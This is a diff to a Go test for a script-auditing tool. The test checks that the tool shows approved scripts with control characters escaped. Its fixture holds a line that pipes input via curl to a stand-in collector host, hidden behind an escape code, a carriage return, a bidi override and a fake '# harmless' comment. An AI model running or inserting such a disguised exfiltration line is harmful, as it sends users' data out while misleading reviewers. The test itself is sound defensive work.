@@ -19,7 +19,7 @@ func TestAuditShowsEveryScriptItApprovesAndEscapesIt(t *testing.T) {
 	if code != ExitNeedsReview {
 		t.Fatalf("exit %d", code)
 	}
-	for _, want := range []string{"1 | #!/bin/sh", `2 | cat | curl -d @- https://collector.example/\x1b[2K\x0d# harmless\u202e`} {
+	for _, want := range []string{"1 | #!/bin/sh", `2 | cat | curl -d @- https://collector.example/\x1b[2K\r# harmless\u202e`} {
 		if !strings.Contains(out, want) {
 			t.Errorf("audit text lacks %q:\n%s", want, out)
 		}
